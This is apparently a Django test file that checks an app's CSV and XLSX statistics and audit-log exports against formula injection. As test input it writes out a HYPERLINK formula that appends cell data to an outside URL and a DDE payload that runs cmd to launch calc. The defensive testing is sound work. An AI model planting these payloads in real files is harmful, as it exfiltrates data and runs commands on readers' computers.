"""No file the product writes runs a formula on the reader's computer: a name a person
typed (a signal, a case reference in the log) that starts with = + - @, a tab or a
carriage return gets a quote in front in every CSV and XLSX cell, and workbooks store
text as text (OWASP's rule against CSV injection)."""

import csv
import io
from collections.abc import Iterator
from urllib.parse import urlencode

from django.urls import reverse
from django.utils import timezone
from django_tenants.utils import tenant_context
from openpyxl import load_workbook

from audit.models import AuditAction
from audit.services import record
from configuratie.models import CatalogueEntry, CatalogueKind
from meldpunt.spreadsheets import FORMULA_STARTS
from statistiek.figures import MAP_TABLE, REGION_TABLES
from statistiek.prevention_figures import PREVENTION_TABLES
from tests.frontend.privacy.test_privacy_screens import reauthenticate
from tests.statistiek.test_statistics_page import QUERY
from workflow.models import Report

FORMULA = '=HYPERLINK("https://example.org/?d="&A1;"Klik hier")'


def csv_cells(content: bytes, delimiter: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter):
        yield from row


def workbook_cells(content: bytes) -> Iterator:
    for sheet in load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(cells: list) -> None:
    started = [cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_STARTS)]
    assert started == []


def test_a_signal_named_as_a_formula_is_plain_text_in_every_export(twente, history, logged_in):
    with tenant_context(twente):
        used = Report.objects.exclude(signals=[]).values_list("signals", flat=True).first()[0]
        signal = CatalogueEntry.objects.get(catalogue=CatalogueKind.SIGNAL, code=used)
    admin = logged_in(twente, "regiobeheerder")
    renamed = admin.post(
        reverse("beheer:register_edit", args=[CatalogueKind.SIGNAL.value, signal.pk]),
        {"name": FORMULA, "position": signal.position, "is_active": "on"},
    )
    assert renamed.status_code == 302, renamed.content.decode()[:2000]

    analist = logged_in(twente, "analist")
    query = urlencode(QUERY)
    texts: list[str] = []
    for name in [*REGION_TABLES, *PREVENTION_TABLES, MAP_TABLE]:
        response = analist.get(reverse("statistiek:export", args=[name, "csv"]) + "?" + query)
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith(f'attachment; filename="{name}_')
        cells = list(csv_cells(response.content, ";"))
        assert_no_formula(cells)
        texts += cells
    assert "'" + FORMULA in texts  # the name is there, neutralised
    for name in ("alle-tabellen", "preventie-en-advies", "signalen"):
        response = analist.get(reverse("statistiek:export", args=[name, "xlsx"]) + "?" + query)
        cells = list(workbook_cells(response.content))
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        assert_no_formula([cell.value for cell in cells])
        if name != "preventie-en-advies":
            assert "'" + FORMULA in [cell.value for cell in cells]


def test_the_audit_log_export_neutralises_what_a_client_typed(twente, logged_in):
    officer = logged_in(twente, "privacyofficer")
    reauthenticate(officer)
    with tenant_context(twente):
        line = record(AuditAction.VIEW, case_id="@SUM(1+1)*cmd|' /C calc'!A0", grounds="-2+3")
    day = timezone.localdate(line.at).isoformat()  # the export's days are Amsterdam's
    exported = officer.get(
        reverse("privacy:audit_export"), {"export-start": day, "export-end": day}
    )
    cells = list(csv_cells(exported.content, ","))
    assert_no_formula(cells)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'-2+3" in cells
